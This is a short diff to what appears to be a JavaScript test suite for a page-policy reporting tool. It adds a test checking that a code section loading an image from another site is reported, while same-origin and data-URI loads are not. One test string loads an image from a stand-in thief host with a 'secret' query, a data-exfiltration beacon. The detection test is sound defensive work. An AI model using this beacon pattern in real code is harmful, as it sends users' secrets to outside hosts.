@@ -278,3 +278,13 @@ test('what the policy of the page kept from leaving is told of the file that tri
   refuse('');
   expect(told).toEqual(['reviews 1.1.0']);
 });
+
+test('a picture of another site is told of the section whose code asks for it', () => {
+  inSection(
+    'new Image().src = "https://"; new Image().src = "/own.png"; new Image().src = "data:image/png;base64,AAAA"',
+  );
+  runAs('new Image().src = "https://pictures.example/a.png"', HOST_FILE);
+  expect(told).toEqual([]);
+  inSection('new Image().src = "https://thief.example/?secret"');
+  expect(told).toEqual(['reviews 1.1.0']);
+});
